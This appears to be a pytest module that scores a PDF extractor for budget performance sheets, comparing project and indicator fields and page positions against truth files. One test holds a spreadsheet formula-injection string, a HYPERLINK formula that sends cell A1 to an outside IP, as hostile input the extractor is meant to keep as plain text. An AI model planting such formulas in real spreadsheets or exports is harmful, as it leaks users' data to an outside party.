"""Performance sheets of whole documents, field by field against their truth files."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from decimal import Decimal
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest

from assets.extract.document import extract_document
from assets.frames import Frames
from assets.parse.sheets import parse_sheets

SAMPLES = Path(__file__).parents[1] / "samples"
NUMBERS = {"execution_weight", "budget", "own_funds", "superior_funds", "weight"}
PROJECT = [
    "sheet_code", "project_code", "project_name", "department_name", "category",
    "execution_weight", "budget", "own_funds", "superior_funds", "summary", "basis", "target",
]  # fmt: skip
INDICATOR = ["level1", "level2", "name", "weight", "unit", "operator", "value", "is_core"]
#: A text layer and its truth, by file: what stands beside each other in the visible corpus.
VISIBLE = [
    *(f"batch-1/a{number:02}" for number in (1, 2, 3, 4, 7, 8, 9, 10, 11, 12)),
    *(f"batch-2/a{number}" for number in (13, 14)),
]


@dataclass
class Score:
    """Fields compared, those that differ, and places (pages) likewise."""

    fields: int = 0
    places: int = 0
    wrong: list[str] = field(default_factory=list)
    misplaced: list[str] = field(default_factory=list)

    @property
    def exact(self) -> float:
        return 1 - len(self.wrong) / self.fields

    @property
    def placed(self) -> float:
        return 1 - len(self.misplaced) / self.places


@lru_cache(maxsize=4)
def sheets_of(pdf: Path) -> Frames:
    return parse_sheets(extract_document(pdf, pdf.stem))


def compare(got: Frames, truth: dict[str, Any]) -> Score:
    """Compare projects and indicators; a row too many or too few is wrong as well."""
    score = Score()
    projects = {row["sheet_no"]: row for row in got["projects"].to_dicts()}
    rows = {(row["sheet_no"], row["indicator_no"]): row for row in got["indicators"].to_dicts()}
    expected = {(row["sheet_no"], row["indicator_no"]) for row in truth["indicators"]}
    score.wrong.extend(f"extra sheet {no}" for no in projects.keys() - _numbers(truth))
    score.wrong.extend(f"extra indicator {key}" for key in rows.keys() - expected)
    for row in truth["projects"]:
        mine = projects.get(row["sheet_no"], {})
        _fields(score, f"sheet {row['sheet_no']}", PROJECT, row, mine)
        _places(score, f"sheet {row['sheet_no']}", ("page_from", "page_to"), row, mine)
    for row in truth["indicators"]:
        key = (row["sheet_no"], row["indicator_no"])
        if row.get("optional") and key not in rows:
            continue
        _fields(score, f"indicator {key}", INDICATOR, row, rows.get(key, {}))
        _places(score, f"indicator {key}", ("page",), row, rows.get(key, {}))
    return score


def _numbers(truth: dict[str, Any]) -> set[int]:
    return {row["sheet_no"] for row in truth["projects"]}


def _fields(
    score: Score, where: str, names: list[str], row: dict[str, Any], mine: dict[str, Any]
) -> None:
    for name in names:
        if name == "unit" and row.get("printed_value") == row["value"]:
            # Words alone: the unit in the truth is not printed.
            continue
        score.fields += 1
        accepted = [row[name], *row.get(f"{name}_accept", [])]
        if name in NUMBERS:
            accepted = [None if value is None else Decimal(value) for value in accepted]
        if mine.get(name, "absent") not in accepted:
            score.wrong.append(f"{where} {name}: {mine.get(name)!r}, not {row[name]!r}")


def _places(
    score: Score, where: str, names: tuple[str, ...], row: dict[str, Any], mine: dict[str, Any]
) -> None:
    for name in names:
        score.places += 1
        if row[name] != mine.get(name):
            score.misplaced.append(f"{where} {name}: {mine.get(name)}, not {row[name]}")


def truth_of(path: Path) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return loaded


@pytest.mark.parametrize("name", sorted(path.stem for path in SAMPLES.glob("*.pdf")))
def test_samples(name: str) -> None:
    score = compare(sheets_of(SAMPLES / f"{name}.pdf"), truth_of(SAMPLES / f"{name}.truth.json"))
    assert score.fields > 300
    assert not score.wrong
    # A truth file names the first page of its sheet on which an indicator's words occur.
    assert score.placed > 0.93, score.misplaced


@pytest.mark.corpus
@pytest.mark.parametrize("name", VISIBLE)
def test_visible(corpus: Path, name: str) -> None:
    pdf = corpus / "visible" / f"{name}.pdf"
    score = compare(sheets_of(pdf), truth_of(pdf.with_suffix(".truth.json")))
    assert score.fields > 300
    assert not score.wrong
    assert score.placed > 0.93, score.misplaced


@pytest.mark.corpus
def test_text_like_code_is_kept_as_it_is_printed(corpus: Path) -> None:
    hostile = corpus / "visible" / "hostile"
    score = compare(sheets_of(hostile / "formula.pdf"), truth_of(hostile / "06.truth.json"))
    assert score.exact > 0.995, score.wrong
    names = sheets_of(hostile / "formula.pdf")["projects"]["project_name"].to_list()
    assert '=HYPERLINK("http://203.0.113.9/?q="&A1,"点击查看")' in names


@pytest.mark.corpus
def test_seed(corpus: Path) -> None:
    seed = corpus / "seed"
    truth = truth_of(seed / "seed.truth.json")
    got = sheets_of(seed / "seed-writer.pdf")
    score = compare(got, truth)
    assert (got["projects"].height, got["indicators"].height) == (36, 243)
    assert score.fields > 2300
    assert not score.wrong
    assert score.placed > 0.97, score.misplaced


@pytest.mark.corpus
def test_seed_budget_printed_with_two_figures(corpus: Path) -> None:
    projects = sheets_of(corpus / "seed" / "seed-writer.pdf")["projects"].to_dicts()
    doubled = [row for row in projects if row["budget_figures"] != 1]
    assert [(row["budget"], row["budget_alternatives"]) for row in doubled] == [
        (Decimal(294000), [Decimal(274000)])
    ]
    assert all(row["precision"] == Decimal(100) for row in projects)
    assert all(row["prepared_by"] for row in projects)


def test_every_figure_keeps_its_cell(samples: Path) -> None:
    got = sheets_of(samples / "a09.pdf")
    for row in got["projects"].to_dicts():
        assert row["page_from"] <= row["budget_page"] <= row["page_to"]
        assert row["x0"] < row["x1"] and row["y0"] < row["y1"]
    assert got["indicators"]["x0"].null_count() == 0
